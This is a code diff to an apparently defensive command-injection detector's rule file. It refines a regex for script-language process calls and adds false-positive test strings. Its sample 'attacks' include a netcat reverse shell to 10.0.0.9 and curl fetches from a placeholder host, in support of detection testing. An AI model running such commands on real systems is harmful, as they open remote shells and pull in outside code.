@@ -1,5 +1,6 @@
 import { isCommandLine, type ShellShape } from '../tokenise/shell-shapes';
 import type { Rule } from './rule';
+import { unlessNamed } from './unless-named';
 import type { Subject } from './subject';
 
 const shape =
@@ -18,6 +19,9 @@ const ARGUMENT_STARTS = [
   ...['user', 'localgroup', 'view', 'use', 'share', 'add', 'query', 'delete', 'firewall'],
 ];
 const ARGUMENTS = [' ', '\t', '+'].flatMap((blank) => ARGUMENT_STARTS.map((start) => blank + start));
+
+const LANGUAGE_CALL =
+  /\bos\.(?:system|popen|exec[lv]\w{0,3}|spawn\w{0,4})\s{0,3}\(|\bsubprocess\.(?:call|run|Popen|check_\w{4,6}|getoutput)\b|\bcommands\.getoutput\b|\bpty\.spawn\b|\bIO\.popen\b|\bKernel\.(?:exec|system|spawn|exit|open|`)|\bOpen[34]\.\w|%x\s{0,3}[({['"]\s{0,3}["'\w/]|@\{\[\s{0,3}(?:system|`|exec)|\bsystem\s{1,3}["'](?:[\w./-]{1,40}["']|[^"'\n]{0,80}(?:[;|&$`<>]|\s-\w|[\w.]\/|\s\/)[^"'\n]{0,80}["'])|\bWScript\.Shell\b|\bProcess\.(?:Start|spawn)\s{0,3}\(|\bexec\.Command\s{0,3}\(|\bSystem\.(?:shell|cmd)\s{0,3}\(/;
 
 export const commandRules: readonly Rule[] = [
   {
@@ -47,6 +51,9 @@ export const commandRules: readonly Rule[] = [
       'milk; sort of',
       'Tom & find friends',
       'x; cat <b>',
+      'an SDK for Rust & Python users',
+      'wait & sleep methods',
+      'Have a look\nperl and its friends\n',
       'Tom & ${friend} find',
       "a; $'cat'egory",
       'x; ${HOME}',
@@ -73,7 +80,7 @@ export const commandRules: readonly Rule[] = [
   },
   {
     id: 'command-substituted',
-    version: 2,
+    version: 3,
     category: 'command',
     severity: 'critical',
     inPasswords: false,
@@ -84,11 +91,18 @@ export const commandRules: readonly Rule[] = [
     needs: [['`', '$(', '<(', '>(', '{']],
     find: shape('substituted'),
     attacks: ['$(curl http://a.example/x)', '`id`', '{cat,/etc/hosts}', "$(rev<<<'sl')"],
-    harmless: ['use `map` here', 'costs $(USD) 5', '{cat,dog}', '{id,name}', '$(rev)'],
+    harmless: [
+      'use `map` here',
+      'a list of tags (`id`, `label`)',
+      'costs $(USD) 5',
+      '{cat,dog}',
+      '{id,name}',
+      '$(rev)',
+    ],
   },
   {
     id: 'command-whole',
-    version: 2,
+    version: 3,
     category: 'command',
     severity: 'critical',
     inPasswords: false,
@@ -99,7 +113,7 @@ export const commandRules: readonly Rule[] = [
     needs: [[...DISGUISES, ...ARGUMENTS]],
     find: ({ text }) => (isCommandLine(text) ? 0 : -1),
     attacks: ['nc -e /bin/sh 10.0.0.9', "w'h'oami", 'curl http://a.example/x'],
-    harmless: ['curl is a tool', 'cat food', 'id card'],
+    harmless: ['curl is a tool', 'cat food', 'id card', 'Python "re" shortcuts', "``Who cares?'' she said"],
   },
   {
     id: 'command-glob',
@@ -163,12 +177,12 @@ export const commandRules: readonly Rule[] = [
   },
   {
     id: 'command-language-call',
-    version: 2,
+    version: 3,
     category: 'command',
     severity: 'critical',
     inPasswords: /os\.|subprocess|popen|system|kernel|process/i,
     sees: 'The calls by which Ruby, Python, Perl, Go and Windows scripts run programs.',
-    ignores: 'The modules without the call.',
+    ignores: 'The modules without the call; names in a sentence.',
     source: 'Standard libraries of the languages',
     inDocuments: 'notice',
     needs: [
@@ -190,8 +204,14 @@ export const commandRules: readonly Rule[] = [
         'commands.',
       ],
     ],
-    find: /\bos\.(?:system|popen|exec[lv]\w{0,3}|spawn\w{0,4})\s{0,3}\(|\bsubprocess\.(?:call|run|Popen|check_\w{4,6}|getoutput)\b|\bcommands\.getoutput\b|\bpty\.spawn\b|\bIO\.popen\b|\bKernel\.(?:exec|system|spawn|exit|open|`)|\bOpen[34]\.\w|%x\s{0,3}[({['"]\s{0,3}["'\w/]|@\{\[\s{0,3}(?:system|`|exec)|\bsystem\s{1,3}["'](?:[\w./-]{1,40}["']|[^"'\n]{0,80}(?:[;|&$`<>]|\s-\w|[\w.]\/|\s\/)[^"'\n]{0,80}["'])|\bWScript\.Shell\b|\bProcess\.(?:Start|spawn)\s{0,3}\(|\bexec\.Command\s{0,3}\(|\bSystem\.(?:shell|cmd)\s{0,3}\(/,
+    find: unlessNamed(LANGUAGE_CALL),
     attacks: ["os.system('x')", "%x('ls')", 'Kernel.exec("x")', "system 'ls -la'"],
-    harmless: ['os.path', 'the system works', 'import subprocess', "Warning system 'could stop floods'"],
+    harmless: [
+      'os.path',
+      'the system works',
+      'import subprocess',
+      'a wrapper around subprocess.run()',
+      "Warning system 'could stop floods'",
+    ],
   },
 ];
